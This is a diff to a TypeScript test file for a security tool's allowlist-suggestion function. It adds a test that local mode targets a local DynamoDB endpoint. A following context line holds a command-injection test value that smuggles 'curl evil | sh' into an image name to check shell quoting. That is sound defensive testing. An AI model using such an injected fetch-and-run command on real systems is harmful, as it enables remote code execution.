@@ -86,6 +86,23 @@ describe('suggestSuppression', () => {
     expect(JSON.parse(json)).toEqual(suggestSuppression(vmAlert(), { nowMs: NOW })!.entry);
   });
 
+  it('in local mode, targets the local instance: npx vmsentry ... --local, and put-item with the local endpoint', () => {
+    const options = { nowMs: NOW, allowlistTable: 'vmsentry-local-allowlist' };
+    const local = suggestSuppression(vmAlert(), { ...options, localDynamoEndpoint: 'http://127.0.0.1:8421' })!;
+    expect(local.cli).toMatch(/^npx vmsentry allowlist add --local --host 'wks-0142\.corp\.example\.com' --rule /);
+    expect(local.cli).not.toContain('--table');
+    expect(local.putItem).toMatch(
+      /^aws dynamodb put-item --endpoint-url 'http:\/\/127\.0\.0\.1:8421' --table-name 'vmsentry-local-allowlist' --item '/,
+    );
+    // The entry itself is the same as deployed: only where it is written changes.
+    const deployed = suggestSuppression(vmAlert(), options)!;
+    expect(local.entry).toEqual(deployed.entry);
+    expect(local.cli.slice(local.cli.indexOf(' --host'))).toBe(deployed.cli.slice(deployed.cli.indexOf(' --host')));
+    // Deployed alerts keep their suggestion: bare `vmsentry` with the table, and no endpoint.
+    expect(deployed.cli).toMatch(/^vmsentry allowlist add --table 'vmsentry-local-allowlist' --host /);
+    expect(deployed.putItem).not.toContain('--endpoint-url');
+  });
+
   it('keeps a hostile image with quotes inside its shell quotes', () => {
     const alert = vmAlert(vmEvent({ Image: "C:\\x'; curl evil | sh; echo '" }));
     const { cli, putItem } = suggestSuppression(alert, { nowMs: NOW })!;
